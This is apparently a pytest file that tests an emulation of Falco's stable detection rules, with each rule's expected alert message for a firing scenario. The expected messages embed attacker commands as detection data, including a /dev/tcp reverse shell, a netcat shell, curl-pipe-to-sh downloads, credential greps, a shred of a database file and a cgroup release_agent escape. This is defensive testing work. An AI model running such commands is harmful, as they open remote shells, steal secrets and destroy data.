"""Every rule of the upstream stable pack (falco_rules.yaml) against a firing and a near-miss scenario.

Scenarios live in ``tests/scenarios/stable/`` as ``<rule-slug>.fire.yaml`` (the rule fires, with
the exact messages below) and ``<rule-slug>.miss.yaml`` (the same activity with one detail the
rule's condition depends on changed; the change is marked by a ``# Changed:`` comment and the
description says why the rule must stay quiet). The whole pack is loaded as Falco 0.44.1 loads it
by default, so every message ends with the container plugin's suggested-output suffix.

Where our emulation disagrees with what Falco would report for a scenario, the scenario and the
expected message stay Falco-correct and the test is a strict xfail naming the bug (``fire_bug``: the
rule cannot fire at all; ``output_bug``: it fires, but a field of the message differs).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pytest
from conftest import STABLE

from falcorules_ci import Ruleset, load_ruleset
from falcorules_ci.engine.alerts import Alert
from falcorules_ci.engine.options import EngineOptions
from falcorules_ci.engine.replay import replay
from falcorules_ci.sources.scenario import load_scenario

SCENARIOS = Path(__file__).resolve().parent / "scenarios" / "stable"
OPTIONS = EngineOptions(rule_matching="all", hostname="test-host", timezone="UTC")

HOST = ("container_id=host container_name=host container_image_repository= container_image_tag= "
        "k8s_pod_name=<NA> k8s_ns_name=<NA>")


def pod(container_id: str, name: str, image: str, pod_name: str, namespace: str) -> str:
    """The suggested-output suffix of a process in a Kubernetes pod's container."""
    repository, tag = image.rsplit(":", 1)
    return (f"container_id={container_id} container_name={name} container_image_repository={repository} "
            f"container_image_tag={tag} k8s_pod_name={pod_name} k8s_ns_name={namespace}")



@dataclass(frozen=True, slots=True)
class Case:
    rule: str
    messages: tuple[str, ...]  # every alert of the rule on its fire scenario, in order
    fire_bug: str | None = None
    output_bug: str | None = None


REVERSE_SHELL = (
    "Redirect stdout/stdin to network connection | gparent=php-fpm ggparent=containerd-shim "
    "gggparent=systemd fd.sip=198.51.100.7 connection=10.244.0.9:43312->198.51.100.7:4444 lport=43312 "
    "rport=4444 fd_type=ipv4 fd_proto=tcp evt_type=dup2 user=<NA> user_uid=33 user_loginuid=-1 process=bash "
    "proc_exepath=/bin/bash parent=php-fpm command=bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 "
    "terminal=0 " + pod("0c8e2f4a6b13", "shop", "docker.io/library/php:8.2-fpm", "shop-7d9f8-kq2x7", "web"))

CASES = [
    Case("Directory traversal monitored file read", (
        "Read monitored file via directory traversal | file=/etc/passwd fileraw=pages/../../../../etc/passwd "
        "gparent=containerd-shim ggparent=systemd gggparent=<NA> evt_type=openat user=<NA> user_uid=33 "
        "user_loginuid=-1 process=apache2 proc_exepath=/usr/sbin/apache2 parent=apache2 "
        "command=apache2 -DFOREGROUND terminal=0 "
        + pod("5f0e8b2a91c4", "shop-web", "docker.io/library/php:8.2-apache", "shop-web-6b7d9", "shop"),)),
    Case("Read sensitive file trusted after startup", (
        "Sensitive file opened for reading by trusted program after startup | file=/etc/shadow pcmdline=nginx "
        "gparent=containerd-shim ggparent=systemd gggparent=<NA> evt_type=openat user=root user_uid=0 "
        "user_loginuid=-1 process=nginx proc_exepath=/usr/sbin/nginx parent=nginx command=nginx terminal=0 "
        + pod("8c3d1e7f20ab", "edge-proxy", "docker.io/library/nginx:1.25.4", "edge-proxy-0", "ingress"),)),
    Case("Read sensitive file untrusted", (
        "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=python3 "
        "ggparent=containerd-shim gggparent=systemd evt_type=openat user=root user_uid=0 user_loginuid=-1 "
        "process=cat proc_exepath=/bin/cat parent=sh command=cat /etc/shadow terminal=0 "
        + pod("1b9a4c6e8d02", "billing-api", "ghcr.io/acme/billing-api:3.4.1", "billing-api-7f9c8d-x2k4p",
              "payments"),)),
    Case("Run shell untrusted", (
        "Shell spawned by untrusted binary | parent_exe=nginx: worker process parent_exepath=/usr/sbin/nginx "
        "pcmdline=nginx gparent=nginx ggparent=containerd-shim aname[4]=systemd aname[5]=<NA> aname[6]=<NA> "
        "aname[7]=<NA> evt_type=execve user=<NA> user_uid=101 user_loginuid=-1 process=sh proc_exepath=/bin/sh "
        "parent=nginx command=sh -c id; uname -a; curl -s http://198.51.100.23/x.sh | sh terminal=0 "
        "exe_flags=EXE_LOWER_LAYER "
        + pod("3ad7b26ded6d", "storefront", "docker.io/library/nginx:1.25.4", "storefront-5c7b9-qz8lm", "web"),)),
    Case("System user interactive", (
        "System user ran an interactive command | evt_type=execve user=www-data user_uid=33 user_loginuid=33 "
        "process=bash proc_exepath=/bin/bash parent=sshd command=bash terminal=34817 exe_flags=0 " + HOST,)),
    Case("Terminal shell in container", (
        "A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 "
        "user_loginuid=-1 process=bash proc_exepath=/bin/bash parent=containerd-shim command=bash "
        "terminal=34816 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER "
        + pod("9e4f2a7c1d38", "orders", "registry.example.com/shop/orders:1.8.2", "orders-6d5f7b8c9-hx2qv",
              "shop"),)),
    Case("Contact K8S API Server From Container", (
        "Unexpected connection to K8s API Server from container | connection=10.244.1.17:51844->10.96.0.1:443 "
        "lport=51844 rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root user_uid=0 "
        "user_loginuid=-1 process=python3 proc_exepath=/usr/local/bin/python3 parent=containerd-shim "
        "command=python3 /app/worker.py terminal=0 "
        + pod("4c2e6a8b0d17", "reports", "ghcr.io/acme/reports:2.0.3", "reports-84f6c9d7b-7tq2w", "analytics"),)),
    Case("Netcat Remote Code Execution in Container", (
        "Netcat runs inside container that allows remote code execution | evt_type=execve user=<NA> "
        "user_uid=33 user_loginuid=-1 process=nc proc_exepath=/bin/nc parent=sh "
        "command=nc 198.51.100.7 4444 -e /bin/sh terminal=0 exe_flags=EXE_LOWER_LAYER "
        + pod("6a1d3f5b7c90", "legacy-cms", "docker.io/library/wordpress:6.4-php8.2-apache", "legacy-cms-0",
              "marketing"),)),
    Case("Search Private Keys or Passwords", (
        "Grep private keys or passwords activities found | evt_type=execve user=deploy user_uid=1001 "
        "user_loginuid=1001 process=grep proc_exepath=/usr/bin/grep parent=bash "
        "command=grep -rl BEGIN OPENSSH PRIVATE KEY /home /root terminal=34818 exe_flags=0 " + HOST,)),
    Case("Clear Log Activities", (
        "Log files were tampered | file=/var/log/auth.log evt_type=openat user=root user_uid=0 "
        "user_loginuid=1001 process=bash proc_exepath=/bin/bash parent=sudo command=bash terminal=34819 "
        + HOST,)),
    Case("Remove Bulk Data from Disk", (
        "Bulk data has been removed from disk | file=<NA> evt_type=execve user=root user_uid=0 "
        "user_loginuid=1001 process=shred proc_exepath=/usr/bin/shred parent=bash "
        "command=shred -n 3 -z -u /var/lib/mysql/ibdata1 terminal=34820 exe_flags=EXE_WRITABLE " + HOST,)),
    Case("Create Symlink Over Sensitive Files", (
        "Symlinks created over sensitive files | target=/etc/shadow linkpath=/var/www/html/s.txt "
        "evt_type=symlinkat user=root user_uid=0 user_loginuid=-1 process=ln proc_exepath=/bin/ln parent=sh "
        "command=ln -s /etc/shadow /var/www/html/s.txt terminal=0 "
        + pod("2d7f9b1c3e5a", "intranet", "docker.io/library/php:8.1-apache", "intranet-7c9d8-mx4z2", "corp"),)),
    Case("Create Hardlink Over Sensitive Files", (
        "Hardlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/.sh evt_type=linkat "
        "user=deploy user_uid=1001 user_loginuid=1001 process=ln proc_exepath=/usr/bin/ln parent=bash "
        "command=ln /etc/shadow /tmp/.sh terminal=34821 " + HOST,)),
    Case("Packet socket created in container", (
        # An AF_PACKET socket is an fd of unknown type to libsinsp: no name, ports or protocol.
        "Packet socket was created in a container | socket_info=fd=3(<o>) domain=17(AF_PACKET) type=3 "
        "proto=768 flags=0(O_NONE) connection= lport=<NA> rport=<NA> fd_type=<NA> fd_proto=<NA> "
        "evt_type=socket user=root user_uid=0 user_loginuid=-1 process=tcpdump proc_exepath=/usr/sbin/tcpdump "
        "parent=python3 command=tcpdump -i eth0 -w /tmp/.cap terminal=0 "
        + pod("7b5c3d1e9f02", "metrics-agent", "quay.io/acme/metrics-agent:0.9.1", "metrics-agent-zt6n4",
              "monitoring"),)),
    Case("Redirect STDOUT/STDIN to Network Connection in Container", (REVERSE_SHELL,) * 3),
    Case("Linux Kernel Module Injection Detected", (
        "Linux Kernel Module injection from container | parent_exepath=/bin/bash gparent=containerd-shim "
        "gexepath=/usr/bin/containerd-shim-runc-v2 module=/tmp/diamorphine.ko res=SUCCESS "
        "evt_type=finit_module user=root user_uid=0 user_loginuid=-1 process=insmod "
        "proc_exepath=/usr/sbin/insmod parent=bash command=insmod /tmp/diamorphine.ko terminal=0 "
        + pod("3e1f5a7c9b24", "node-debugger", "docker.io/library/ubuntu:22.04", "node-debugger-worker-3",
              "default"),)),
    Case("Debugfs Launched in Privileged Container", (
        "Debugfs launched started in a privileged container | evt_type=execve user=root user_uid=0 "
        "user_loginuid=-1 process=debugfs proc_exepath=/usr/sbin/debugfs parent=bash "
        "command=debugfs -w /dev/nvme0n1p1 terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER "
        + pod("6f2a4c8e0d35", "toolbox", "docker.io/library/debian:12", "toolbox-5f6d7", "default"),)),
    Case("Detect release_agent File Container Escapes", (
        "Detect an attempt to exploit a container escape using release_agent file | "
        "file=/tmp/cgrp/release_agent cap_effective=CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL "
        "CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_SYS_ADMIN "
        "CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP evt_type=openat user=root user_uid=0 user_loginuid=-1 process=sh "
        "proc_exepath=/bin/sh parent=containerd-shim command=sh -c echo \"$host_path/cmd\" > "
        "/tmp/cgrp/release_agent terminal=0 "
        + pod("8a0c2e4f6b57", "ci-runner", "docker.io/library/alpine:3.19", "ci-runner-4hj8s", "ci"),)),
    Case("PTRACE attached to process", (
        "Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=bash evt_type=ptrace user=root user_uid=0 "
        "user_loginuid=-1 process=sshd-tap proc_exepath=/tmp/.x/sshd-tap parent=bash command=sshd-tap 900 "
        "terminal=34816 " + HOST,)),
    Case("PTRACE anti-debug attempt", (
        "Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=sh -c /tmp/kinsing "
        "evt_type=ptrace user=root user_uid=0 user_loginuid=-1 process=kinsing proc_exepath=/tmp/kinsing "
        "parent=sh command=kinsing terminal=0 "
        + pod("5d3b1f9e7c46", "batch", "registry.example.com/data/batch:5.2", "batch-28731940-9xv2c", "data"),)),
    Case("Find AWS Credentials", (
        "Detected AWS credentials search activity | proc_pcmdline=bash -c grep -ri aws_secret_access_key "
        "/root /home 2>/dev/null proc_cwd=/builds/acme/web/ group_gid=0 group_name=root user_loginname=<NA> "
        "evt_type=execve user=root user_uid=0 user_loginuid=-1 process=grep proc_exepath=/bin/grep parent=bash "
        "command=grep -ri aws_secret_access_key /root /home terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER "
        + pod("2f4d6b8a0c19", "build", "docker.io/library/node:20-bookworm", "runner-x7k2p-project-41-concurrent-0",
              "gitlab-runner"),)),
    Case("Execution from /dev/shm", (
        "File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/dev/shm/.x/ "
        "proc_pcmdline=sh -c cd /dev/shm/.x && curl -so kdevtmpfsi http://198.51.100.60/k && chmod +x "
        "kdevtmpfsi && ./kdevtmpfsi user_loginname=<NA> group_gid=1002 group_name=jenkins evt_type=execve "
        "user=jenkins user_uid=1002 user_loginuid=-1 process=kdevtmpfsi proc_exepath=/dev/shm/.x/kdevtmpfsi "
        "parent=sh command=kdevtmpfsi terminal=0 exe_flags=EXE_WRITABLE " + HOST,)),
    Case("Drop and execute new binary in container", (
        "Executing binary not part of base image | proc_exe=/tmp/xmrig proc_sname=python3 gparent=containerd-shim "
        "proc_exe_ino_ctime=1714564800010010000 proc_exe_ino_mtime=1714564800000020001 "
        "proc_exe_ino_ctime_duration_proc_start=10000001 proc_cwd=/srv/ container_start_ts=82800000000000 "
        "evt_type=execve user=root user_uid=0 user_loginuid=-1 process=xmrig proc_exepath=/tmp/xmrig "
        "parent=python3 command=xmrig -o stratum+tcp://pool.example:3333 -u wallet terminal=0 "
        "exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER "
        + pod("b512b5b2aa8f", "worker", "registry.example.com/batch/worker:2.3", "worker-5b6c7d-p9q8r", "batch"),)),
    Case("Disallowed SSH Connection Non Standard Port", (
        "Disallowed SSH Connection | connection=192.168.10.21:49822->203.0.113.45:443 lport=49822 rport=443 "
        "fd_type=ipv4 fd_proto=tcp evt_type=connect user=deploy user_uid=1001 user_loginuid=1001 process=ssh "
        "proc_exepath=/usr/bin/ssh parent=bash command=ssh -N -R 2222:localhost:22 -p 443 tunnel@203.0.113.45 "
        "terminal=34817 " + HOST,)),
    Case("Fileless execution via memfd_create", (
        "Fileless execution via memfd_create | container_start_ts=<NA> proc_cwd=/home/deploy/ evt_res=SUCCESS "
        "proc_sname=python3 gparent=systemd evt_type=execve user=deploy user_uid=1001 user_loginuid=1001 "
        "process=3 proc_exepath=/memfd: (deleted) parent=python3 command=3 terminal=34818 "
        "exe_flags=EXE_WRITABLE|EXE_FROM_MEMFD " + HOST,)),
]

CASES_BY_RULE = {case.rule: case for case in CASES}


def slug(rule: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", rule.lower()).strip("-")


def scenario(rule: str, kind: str) -> Path:
    return SCENARIOS / f"{slug(rule)}.{kind}.yaml"


@cache
def stable_pack() -> Ruleset:
    loaded = load_ruleset([STABLE])
    assert loaded.successful, [str(e) for r in loaded.results for e in r.errors]
    return loaded


@cache
def alerts_for(rule: str, kind: str) -> tuple[Alert, ...]:
    return tuple(a for a in replay(stable_pack(), [scenario(rule, kind)], OPTIONS) if a.rule == rule)


def marked(cases: list[Case], *, output: bool) -> list[object]:
    """The cases as params, strict-xfailed where a known bug keeps the test from passing."""
    params: list[object] = []
    for case in cases:
        bug = case.fire_bug or (case.output_bug if output else None)
        marks = [pytest.mark.xfail(strict=True, reason=bug)] if bug else []
        params.append(pytest.param(case, id=case.rule, marks=marks))
    return params


def test_every_stable_rule_has_a_case() -> None:
    pack = stable_pack()
    assert {rule.name for rule in pack.rules} == set(CASES_BY_RULE)
    assert len(CASES) == len(CASES_BY_RULE) == len(pack.rules)


def test_scenario_files_match_the_cases() -> None:
    expected = {f"{slug(case.rule)}.{kind}.yaml" for case in CASES for kind in ("fire", "miss")}
    assert {path.name for path in SCENARIOS.iterdir()} == expected


@pytest.mark.parametrize("case", CASES, ids=[case.rule for case in CASES])
def test_near_miss_says_what_it_changes(case: Case) -> None:
    text = scenario(case.rule, "miss").read_text(encoding="utf-8")
    assert "\n  # Changed: " in text
    assert load_scenario(scenario(case.rule, "miss")).description.startswith("Near miss of the fire scenario: ")


@pytest.mark.parametrize("case", CASES, ids=[case.rule for case in CASES])
def test_near_miss_reaches_the_rule(case: Case) -> None:
    # A near miss must produce events the rule is indexed under; otherwise its silence proves nothing.
    evttypes = stable_pack().rule(case.rule).evttypes
    assert evttypes
    events = [e for e in load_scenario(scenario(case.rule, "miss")).events() if not e.is_enter]
    assert any(e.code in evttypes for e in events)


@pytest.mark.parametrize("case", marked(CASES, output=False))
def test_rule_fires_on_its_scenario(case: Case) -> None:
    fired = alerts_for(case.rule, "fire")
    assert len(fired) == len(case.messages)
    rule = stable_pack().rule(case.rule)
    for alert in fired:
        assert alert.priority == rule.priority
        assert alert.source == "syscall"
        assert alert.hostname == "test-host"


@pytest.mark.parametrize("case", marked(CASES, output=True))
def test_rule_output_is_falcos(case: Case) -> None:
    fired = alerts_for(case.rule, "fire")
    assert [alert.message for alert in fired] == list(case.messages)
    for alert in fired:
        assert alert.output.endswith(f": {alert.priority.label} {alert.message}")


@pytest.mark.parametrize("case", CASES, ids=[case.rule for case in CASES])
def test_rule_is_quiet_on_its_near_miss(case: Case) -> None:
    assert alerts_for(case.rule, "miss") == ()
